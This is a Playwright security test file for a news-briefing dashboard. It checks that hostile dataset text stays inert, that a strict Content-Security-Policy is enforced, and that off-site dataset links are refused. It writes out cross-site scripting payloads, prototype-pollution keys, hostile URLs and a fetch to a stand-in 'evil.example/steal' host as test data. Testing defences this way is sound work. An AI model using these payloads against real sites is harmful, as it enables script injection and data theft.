import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import type { DatasetInput } from '../src/dataset/schema';
import { SOURCE_SITE_TEXT, SOURCE_WIRE_TEXT, validDataset } from '../src/testing/test-fixtures';
import { expect, openDashboard, panel, test } from './test';

/** Every way markup could sneak into a page; each would set window.__pwned if it ever ran. */
function payload(n: number): string {
  return [
    `<script>window.__pwned=${n}</script>`,
    `<img src=x onerror="window.__pwned=${n}">`,
    `javascript:window.__pwned=${n}`,
    `<svg onload="window.__pwned=${n}"><script>window.__pwned=${n}</script></svg>`,
    `</style><style>body{display:none}</style>`,
    `<iframe src="javascript:window.__pwned=${n}"></iframe>`,
    `<a href="javascript:window.__pwned=${n}">click</a>`,
    `{{constructor.constructor('window.__pwned=${n}')()}}`,
  ].join(' ');
}

/** A valid dataset whose every free-text field carries the payloads (ids cannot: the schema refuses). */
function hostileDataset(): DatasetInput {
  let n = 0;
  const x = (label: string) => `${label} ${payload(++n)}`;
  const d = validDataset();
  const wireTail = payload(900);
  const siteTail = payload(901);
  d.title = x('Hostile briefing');
  d.version = x('v1');
  d.description = x('About');
  for (const [i, s] of d.sources.entries()) {
    s.title = x(`Article ${i}`);
    s.outlet = x(`Outlet ${i}`);
    s.reposts = [x('Repost')];
    s.translatedFrom = x('Language');
    s.translationNote = x('Note');
    s.notes = x('Notes');
    s.text = `${i === 0 ? SOURCE_WIRE_TEXT : SOURCE_SITE_TEXT}\n${i === 0 ? wireTail : siteTail}`;
  }
  d.sources[0].url = `https://example.com/"><script>window.__pwned=1</script>?q=<img src=x onerror=window.__pwned=1>`;
  for (const a of d.actors) {
    a.name = x(a.name);
    a.role = x('Role');
    a.affiliation = x(a.affiliation);
    a.aliases = [x('Alias')];
  }
  for (const e of d.events) {
    e.title = x('Event');
    e.summary = x('Summary');
    e.date = { ...e.date, as: x('Tuesday') };
  }
  for (const q of d.quotes) {
    q.text = x('Quote');
    q.setting = x('Setting');
    // The drawer highlights this excerpt inside the article text: markup inside <mark>.
    q.citations.push({ source: 'src-wire', excerpt: wireTail });
  }
  for (const a of d.aid) {
    a.item = x('Item');
    a.notes = x('Notes');
    if (a.location) a.location = x('Place');
  }
  for (const disc of d.discrepancies) {
    disc.topic = x('Topic');
    disc.summary = x('Summary');
    for (const v of disc.versions) v.reading = x('Reading');
    disc.versions.push({ source: 'src-site', excerpt: siteTail, reading: x('Reading') });
  }
  return d;
}

/** Nothing from the data became an element, an attribute or a style; no script ran. */
async function expectInert(page: Page) {
  const found = await page.evaluate(() => {
    const all = [...document.querySelectorAll('*')];
    return {
      pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
      scripts: [...document.scripts].map((s) => s.getAttribute('src') ?? `inline: ${s.textContent}`),
      injected: document.querySelectorAll('img[src="x"], iframe, object, embed, svg[onload], a[href^="javascript:" i]').length,
      handlerAttributes: all.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`)),
      dataStyles: [...document.querySelectorAll('style')].filter((s) => s.textContent?.includes('display:none')).length,
      bodyDisplay: getComputedStyle(document.body).display,
    };
  });
  expect(found.pwned).toBeNull();
  expect(found.scripts).toHaveLength(1);
  expect(found.scripts[0]).toMatch(/^\/assets\/index-[\w-]+\.js$/);
  expect(found.injected).toBe(0);
  expect(found.handlerAttributes).toEqual([]);
  expect(found.dataStyles).toBe(0);
  expect(found.bodyDisplay).not.toBe('none');
}

/** Records every Content-Security-Policy violation from the first byte on. */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const list: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = list;
    document.addEventListener('securitypolicyviolation', (e) => list.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test.describe('hostile text in every field is shown as text', () => {
  test('dashboard, filters, charts and the provenance drawer stay inert', async ({ page }) => {
    const violations = await recordViolations(page);
    const dataset = hostileDataset();
    await page.route(
      (url) => url.pathname === '/fixtures/hostile.json',
      (route) => route.fulfill({ contentType: 'application/json', body: JSON.stringify(dataset) }),
    );
    await openDashboard(page, '?dataset=/fixtures/hostile.json');

    // The payloads are on screen, as characters.
    await expect(page.getByRole('heading', { level: 1 })).toContainText('Hostile briefing <script>window.__pwned=1</script>');
    const timeline = panel(page, 'Call timeline');
    await expect(timeline.getByRole('heading', { name: /^Event <script>/ }).first()).toContainText('<img src=x onerror="window.__pwned=');
    await expect(panel(page, 'Quote board')).toContainText('</style><style>body{display:none}</style>');
    await expect(panel(page, 'Weapons and aid tracker')).toContainText('<iframe src="javascript:window.__pwned=');
    await expect(panel(page, 'Filters')).toContainText('Joe Biden <script>');
    await expectInert(page);

    // Use it: filter by an actor whose name is a payload, switch lanes, hover the chart.
    await panel(page, 'Filters')
      .getByRole('checkbox', { name: /^Joe Biden <script>/ })
      .check();
    await timeline.getByRole('button', { name: 'By actor' }).click();
    await timeline.locator('.brush').scrollIntoViewIfNeeded();
    await timeline.locator('.recharts-surface').first().hover();
    await expectInert(page);

    // The drawer renders the full article text, with a payload inside the highlighted excerpt.
    await panel(page, 'Quote board')
      .getByRole('button', { name: /^Sources for quote by Joe Biden/ })
      .first()
      .click();
    const drawer = page.getByRole('region', { name: /^Quote by Joe Biden/ });
    await expect(drawer).toBeVisible();
    await expect(drawer.locator('mark', { hasText: '<script>window.__pwned=900</script>' })).toBeVisible();
    await expect(drawer.getByRole('article').first()).toContainText(SOURCE_WIRE_TEXT);
    const link = drawer.getByRole('link', { name: /^https:\/\/example\.com\// });
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(link).toHaveAttribute('target', '_blank');
    expect(new URL((await link.getAttribute('href')) as string).protocol).toBe('https:');
    await expectInert(page);

    // And a discrepancy, whose versions quote payloads side by side.
    await page.keyboard.press('Escape');
    await expect(drawer).toBeHidden();
    await panel(page, 'Discrepancies')
      .getByRole('button', { name: /^Sources for Topic <script>/ })
      .first()
      .click();
    const versions = page.getByRole('region', { name: /^Topic <script>/ });
    await expect(versions.locator('mark', { hasText: '<script>window.__pwned=901</script>' })).toBeVisible();
    await expectInert(page);
    expect(await violations()).toEqual([]);
  });
});

test.describe('the Content-Security-Policy', () => {
  test('is sent as a header and a <meta>, allows no inline script or eval, and the app needs neither', async ({ page, request }) => {
    const response = await request.get('/');
    const header = response.headers()['content-security-policy'];
    const html = await response.text();
    const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1];
    expect(meta).toBeTruthy();
    expect(header).toBe(`${meta}; frame-ancestors 'none'`);
    const directives = new Map(
      (meta as string).split(';').map((d) => {
        const [name, ...values] = d.trim().split(/\s+/);
        return [name, values] as const;
      }),
    );
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(meta).not.toMatch(/unsafe-eval|strict-dynamic|\*/);
    // Every script in the built page is a file, none inline.
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attrs, body] of scripts) {
      expect(attrs).toMatch(/\bsrc="\/assets\//);
      expect(body.trim()).toBe('');
    }

    const violations = await recordViolations(page);
    await openDashboard(page);
    await panel(page, 'Quote board')
      .getByRole('button', { name: /^Sources for/ })
      .first()
      .click();
    await expect(page.getByRole('region', { name: /^Quote by/ })).toBeVisible();
    expect(await violations(), 'the app itself breaks none of its own policy').toEqual([]);
  });

  test.describe('blocks what an injection would try', () => {
    // One pattern only: test.use reads a two-element array as [value, options].
    test.use({ allowedConsole: [/violates the (following|document.s) Content Security Policy|Failed to fetch/] });

    test('an inline <script>, eval, and a request to another site', async ({ page }) => {
      await openDashboard(page);
      const inline = await page.evaluate(
        () =>
          new Promise<{ directive: string; ran: unknown }>((resolve) => {
            document.addEventListener(
              'securitypolicyviolation',
              (e) => resolve({ directive: e.violatedDirective, ran: (window as unknown as { __pwned?: unknown }).__pwned ?? null }),
              { once: true },
            );
            const s = document.createElement('script');
            s.textContent = 'window.__pwned = 1';
            document.head.append(s);
          }),
      );
      expect(inline).toEqual({ directive: 'script-src-elem', ran: null });

      // page.evaluate itself is exempt from the policy, so eval is tried from the page's own task: a
      // string timer, which is eval by another name. An inline event handler likewise.
      const blocked = await page.evaluate(async () => {
        // Header and <meta> are two policies, so each action is reported twice: collect, then dedupe.
        const seen = new Set<string>();
        document.addEventListener('securitypolicyviolation', (e) => seen.add(`${e.violatedDirective} ${e.blockedURI}`));
        const reported = async (what: string) => {
          for (let i = 0; i < 100 && !seen.has(what); i++) await new Promise((r) => setTimeout(r, 20));
        };
        (window.setTimeout as unknown as (code: string, ms: number) => number)('window.__pwned = 2', 0);
        await reported('script-src eval');
        const img = document.createElement('img');
        img.setAttribute('onerror', 'window.__pwned = 3');
        img.src = 'data:,not-an-image';
        document.body.append(img);
        await reported('script-src-attr inline');
        img.remove();
        return [...seen].sort();
      });
      expect(blocked).toEqual(['script-src eval', 'script-src-attr inline']);

      const requests: string[] = [];
      page.on('request', (r) => requests.push(r.url()));
      const connect = await page.evaluate(async () => {
        const seen = new Promise<string>((resolve) =>
          document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.violatedDirective} ${e.blockedURI}`), { once: true }),
        );
        const result = await fetch('https://evil.example/steal').then(
          () => 'sent',
          () => 'blocked',
        );
        return `${result}: ${await seen}`;
      });
      expect(connect).toBe('blocked: connect-src https://evil.example/steal');
      expect(requests.filter((u) => u.includes('evil.example'))).toEqual([]);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null)).toBeNull();
    });
  });
});

test.describe('links', () => {
  test('?dataset= pointing elsewhere is refused before any request, in every spelling', async ({ page }, testInfo) => {
    const origin = new URL(testInfo.project.use.baseURL as string).origin;
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    const hostile = [
      'http://evil.example/x.json',
      'https://other.example/x.json',
      '//evil.example/x.json',
      'javascript:alert(document.domain)',
      'data:application/json,{"title":"x"}',
      '\\\\evil.example\\x.json',
      '/\\evil.example/x.json',
      '\t//evil.example/x.json',
      ' https://evil.example/x.json',
      `/${'a'.repeat(2_000)}.json`,
    ];
    for (const value of hostile) {
      await page.goto(`/?dataset=${encodeURIComponent(value)}`);
      await expect(page.getByRole('alert').getByRole('heading')).toHaveText('This dataset link was refused');
      await expect(page.getByRole('alert')).toContainText('Refused dataset');
      await expect(page.getByRole('alert').getByRole('button', { name: 'Retry' })).toHaveCount(0);
    }
    // Percent-encoding is undone once by the browser: %2F%2F arrives as // and is refused too.
    await page.goto('/?dataset=%2F%2Fevil.example%2Fx.json');
    await expect(page.getByRole('alert')).toContainText('only paths on this site are allowed');
    expect(requests.filter((u) => new URL(u).origin !== origin)).toEqual([]);
    await page.getByRole('button', { name: 'Open the default dataset' }).click();
    await expect(panel(page, 'Call timeline')).toBeVisible();
  });

  test('twenty fuzzed links in one page: no crash, bad values dropped with a notice, good ones kept', async ({ page }) => {
    const real = JSON.parse(readFileSync('public/data/briefing.json', 'utf8')) as {
      actors: { id: string }[];
      sources: { id: string }[];
      events: { id: string }[];
    };
    let seed = 20240625;
    const next = () => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
      return seed / 2 ** 32;
    };
    const pick = <T>(xs: readonly T[]) => xs[Math.floor(next() * xs.length)];
    const good: [string, () => string][] = [
      ['actor', () => pick(real.actors).id],
      ['src', () => pick(real.sources).id],
      ['type', () => pick(['event', 'quote', 'aid', 'discrepancy'])],
      ['kind', () => pick(['call', 'summit', 'statement'])],
      ['from', () => '2024-06-20'],
      ['lane', () => 'actor'],
      ['group', () => 'event'],
      ['sort', () => '-amount'],
    ];
    const bad: [string, () => string][] = [
      ['actor', () => pick(['nobody', '<img src=x onerror=window.__pwned=1>', '__proto__', '\u202eevil'])],
      ['from', () => pick(['2024-02-30', '2024-13-01', 'yesterday'])],
      ['zzz', () => '1'],
      ['__proto__', () => 'polluted'],
      ['rec', () => pick(['no-such-record', 'constructor'])],
      ['sort', () => pick(['--amount', 'price'])],
      ['lane', () => '<svg onload=window.__pwned=1>'],
    ];
    await openDashboard(page);
    const notices = page.getByRole('status').filter({ hasText: 'Some of the link was ignored' });
    for (let i = 0; i < 20; i++) {
      const withBad = i % 2 === 1;
      const params = new URLSearchParams();
      for (let k = 0; k < 3; k++) {
        const [key, value] = pick(good);
        // A key given twice is itself reported (the first value is used), so a good link names each once.
        if (!params.has(key)) params.append(key, value());
      }
      if (withBad) {
        const [key, value] = pick(bad);
        params.set(key, value());
      }
      const query = params.toString();
      await page.evaluate((q) => {
        window.history.pushState(null, '', `/?${q}`);
        window.dispatchEvent(new PopStateEvent('popstate'));
      }, query);
      await expect(panel(page, 'Call timeline'), query).toBeVisible();
      await expect(panel(page, 'Quote board'), query).toBeVisible();
      if (withBad) await expect(notices, query).toBeVisible();
      else await expect(notices, query).toHaveCount(0);
    }
    await expectInert(page);
    // A few by full load: a 6,000-character link, broken percent-escapes, empty pieces.
    // (Servers cap a request line at 8–16 KB, so a longer link never reaches the page.)
    for (const raw of [`?q=${'x'.repeat(4_000)}&actor=${'y'.repeat(2_000)}`, '?actor=%E0%A4%A&src=%&from=%ZZ', '?&&&==&actor=,,,&type=']) {
      await page.goto(`/${raw}`);
      await expect(panel(page, 'Call timeline')).toBeVisible();
    }
    await expect(notices).toBeVisible();
    await expectInert(page);
  });
});
